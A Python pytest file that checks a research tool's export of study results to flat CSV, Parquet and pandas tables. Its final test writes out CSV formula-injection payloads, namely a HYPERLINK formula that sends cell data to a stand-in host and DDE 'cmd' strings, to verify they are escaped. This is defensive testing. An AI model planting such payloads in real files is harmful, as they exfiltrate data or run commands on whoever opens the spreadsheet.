"""Flat export of a study: one column per measurement, metric and usage figure, no JSON cells."""

from __future__ import annotations

import csv
import json
import math
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from eairdsl.api import resolve_world
from eairdsl.cli import app
from eairdsl.study import episodes
from eairdsl.study.executor import run_study
from eairdsl.study.grid import Attempt, Cell, parse_models, plan_world
from eairdsl.study.store import (
    FLAT_FIXED,
    MEASUREMENTS,
    STORE_FILE,
    Store,
    export_parquet,
    flat_rows,
)

ROOT = Path(__file__).resolve().parents[1]
D1 = ROOT / "worlds" / "d1.eair"
USAGE = {"total": {"calls": 3, "tokens_in": 120, "tokens_out": 45, "cost": 0.0125,
                   "malformed": 0},
         "agents": {"assistant": {"calls": 3, "tokens_in": 120, "tokens_out": 45,
                                  "cost": 0.0125, "malformed": 0}}}


@pytest.fixture(scope="module")
def study(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small D1 sim study (two models, two conditions), plus one LLM-like attempt with usage
    and nested metric values recorded by hand, exported to CSV through the CLI."""
    out = tmp_path_factory.mktemp("export") / "d1"
    world = resolve_world(D1)
    plan = plan_world(world, ["canonical", "need_to_know"], ["hr-1", "hr-2"], 1)
    run_study([world], [plan], parse_models("sim,sim:reckless"), out, workers=1)
    with Store.open(out / STORE_FILE, create=False) as store:
        digest = store.rows()[0]["digest"]
        store.record(
            Attempt(Cell("d1", "gpt", "canonical", "hr-1", 0), 0, "assistant=openai/x"), digest,
            {"measurements": {"realized": True, "utility": False}, "valid": True,
             "unassessed": {"anomaly": "insufficient evidence (d1.eair:9)"},
             "metrics": {"inquiry_used": True, "per_quarter": [1.5, 2], "by": {"a": "x"},
                         "none_yet": []},
             "usage": USAGE, "end_time": 90.0}, None)
    result = CliRunner().invoke(app, ["export", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _csv(study: Path) -> tuple[list[str], list[dict[str, str]]]:
    with (study / "results.csv").open(encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        return list(reader.fieldnames or []), list(reader)


def _stored(study: Path) -> list[dict[str, Any]]:
    with Store.open(study / STORE_FILE, create=False) as store:
        return store.rows()


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def test_csv_has_one_column_per_figure_and_no_json(study: Path) -> None:
    """Measurements, each metric, each usage figure and each unassessed reason is a column."""
    header, rows = _csv(study)
    assert header[:len(FLAT_FIXED)] == list(FLAT_FIXED)
    assert not {"metrics", "usage", "unassessed"} & set(header)
    assert set(MEASUREMENTS) <= set(header)
    stored = _stored(study)
    metric_names = {k for r in stored for k in json.loads(r["metrics"])}
    assert {"inquiry_used", "canary_realized"} <= metric_names
    for name in metric_names - {"per_quarter", "by", "none_yet"}:
        assert f"metric.{name}" in header
    assert {"metric.per_quarter.0", "metric.per_quarter.1", "metric.by.a",
            "metric.none_yet"} <= set(header)
    for group in ("total", "agents.assistant"):
        for figure in ("calls", "tokens_in", "tokens_out", "cost", "malformed"):
            assert f"usage.{group}.{figure}" in header
    assert "unassessed.anomaly" in header
    assert len(header) == len(set(header))
    for row in rows:
        for value in row.values():
            try:
                parsed = json.loads(value)
            except ValueError:
                continue
            assert not isinstance(parsed, (dict, list)), value


def test_csv_values_match_the_store(study: Path) -> None:
    """Row by row, every cell equals the stored value (JSON columns read back and spread)."""
    _header, rows = _csv(study)
    stored = _stored(study)
    assert len(rows) == len(stored) == 9
    for row, r in zip(rows, stored, strict=True):
        for col in FLAT_FIXED:
            assert row[col] == _cell(r[col]), col
        for name, value in json.loads(r["metrics"]).items():
            if isinstance(value, list | dict):
                continue
            assert row[f"metric.{name}"] == _cell(value), name
        for name, reason in json.loads(r["unassessed"]).items():
            assert row[f"unassessed.{name}"] == reason
        flat = {k: v for k, v in row.items() if k.startswith("unassessed.") and v}
        assert len(flat) == len(json.loads(r["unassessed"]))
    llm = next(row for row in rows if row["model"] == "gpt")
    assert (llm["usage.total.tokens_in"], llm["usage.agents.assistant.cost"]) == ("120", "0.0125")
    assert (llm["metric.per_quarter.0"], llm["metric.per_quarter.1"], llm["metric.by.a"],
            llm["metric.none_yet"]) == ("1.5", "2", "x", "")
    assert (llm["realized"], llm["utility"], llm["anomaly"], llm["retained"]) == ("1", "0", "",
                                                                                "1")
    assert all(row["usage.total.calls"] == "" for row in rows if row["model"] != "gpt")


def test_parquet_round_trips_the_csv_table(study: Path, tmp_path: Path) -> None:
    """The Parquet file holds the CSV's columns and values, typed."""
    pq = pytest.importorskip("pyarrow.parquet")
    header, rows = _csv(study)
    target = tmp_path / "results.parquet"
    result = CliRunner().invoke(app, ["export", str(study), "--format", "parquet",
                                      "-o", str(target)])
    assert result.exit_code == 0, result.output
    table = pq.read_table(target)
    assert table.column_names == header
    assert str(table.schema.field("realized").type) == "int64"
    assert str(table.schema.field("metric.inquiry_used").type) == "bool"
    assert str(table.schema.field("usage.total.cost").type) == "double"
    for row, back in zip(rows, table.to_pylist(), strict=True):
        assert {k: _cell(v) for k, v in back.items()} == row


def test_parquet_without_pyarrow_is_a_one_line_error(study: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib

    real = importlib.import_module

    def no_pyarrow(name: str, package: str | None = None) -> Any:
        if name.startswith("pyarrow"):
            raise ImportError(name)
        return real(name, package)

    monkeypatch.setattr(importlib, "import_module", no_pyarrow)
    result = CliRunner().invoke(app, ["export", str(study), "--format", "parquet",
                                      "-o", str(tmp_path / "x.parquet")])
    assert result.exit_code == 1
    assert result.output.strip().count("\n") == 0
    assert "pyarrow" in result.output and "eairdsl[parquet]" in result.output
    assert not (tmp_path / "x.parquet").exists()
    with Store.open(study / STORE_FILE, create=False) as store, \
            pytest.raises(Exception, match="pyarrow"):
        export_parquet(store, tmp_path / "y.parquet")


def test_episodes_gives_the_csv_rows(study: Path) -> None:
    """`eairdsl.study.episodes(DIR)` is the CSV's table as a DataFrame."""
    pytest.importorskip("pandas")
    header, rows = _csv(study)
    frame = episodes(study)
    assert list(frame.columns) == header
    assert len(frame) == len(rows)
    assert str(frame["realized"].dtype) == "Int64"
    for row, record in zip(rows, frame.to_dict("records"), strict=True):
        back = {k: "" if v is None or (isinstance(v, float) and math.isnan(v))
                or str(v) == "<NA>" else _cell(v) for k, v in record.items()}
        assert back == row
    retained = frame[frame["retained"] == 1]
    assert retained["realized"].sum() == sum(
        int(r["realized"]) for r in rows if r["retained"] == "1" and r["realized"])
    assert episodes(study / STORE_FILE).shape == frame.shape


def test_episodes_without_pandas_says_what_to_install(study: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib

    real = importlib.import_module

    def no_pandas(name: str, package: str | None = None) -> Any:
        if name == "pandas":
            raise ImportError(name)
        return real(name, package)

    monkeypatch.setattr(importlib, "import_module", no_pandas)
    with pytest.raises(ImportError, match=r"needs pandas.*eairdsl\[pandas\]"):
        episodes(study)


def test_flat_rows_of_an_empty_store(tmp_path: Path) -> None:
    with Store.open(tmp_path / STORE_FILE) as store:
        assert flat_rows(store) == (list(FLAT_FIXED), [])


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path: Path) -> None:
    """Text from worlds, instances and agents that starts with `=`, `+`, `-`, `@`, a tab or
    a carriage return was written as it was, and a spreadsheet opening results.csv ran it
    as a formula (`=HYPERLINK(…)`). Such a cell now starts with `'` (OWASP); numbers, and
    text that is only a number, stay as they are; the store and Parquet keep the values."""
    hostile = {"eq": '=HYPERLINK("http://x.example/?"&A1,"open")', "at": "@SUM(A1:A9)",
               "plus": "+cmd|' /C calc'!A0", "minus": "-1+cmd|' /C calc'!A0",
               "tab": "\t=1+1", "cr": "\r=1+1", "dash": "-"}
    plain = {"neg": -3, "negf": -2.5, "neg_text": "-2.5", "plus_text": "+4", "exp": "-1e3",
             "mid": "a=b", "quote": "'=already"}
    path = tmp_path / STORE_FILE
    with Store.open(path) as store:
        store.record(Attempt(Cell("d1", "=cmd()", "canonical", "@x", 0), 0, "=agents"), "d",
                     {"measurements": {"realized": True}, "valid": False,
                      "validity_reason": "-invalid+1", "metrics": {**hostile, **plain},
                      "end_time": -30.0}, None)
    result = CliRunner().invoke(app, ["export", str(tmp_path), "-o", str(tmp_path / "r.csv")])
    assert result.exit_code == 0, result.output
    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    for name, value in hostile.items():
        assert row[f"metric.{name}"] == "'" + value, name
    assert (row["model"], row["instance"], row["agents"], row["validity_reason"]) == (
        "'=cmd()", "'@x", "'=agents", "'-invalid+1")
    for name, value in plain.items():
        assert row[f"metric.{name}"] == str(value), name
    assert row["end_time"] == "-30.0" and row["realized"] == "1"
    with Store.open(path, create=False) as store:  # the data itself is not changed
        (flat,) = flat_rows(store)[1]
    assert flat["metric.eq"] == hostile["eq"] and flat["model"] == "=cmd()"
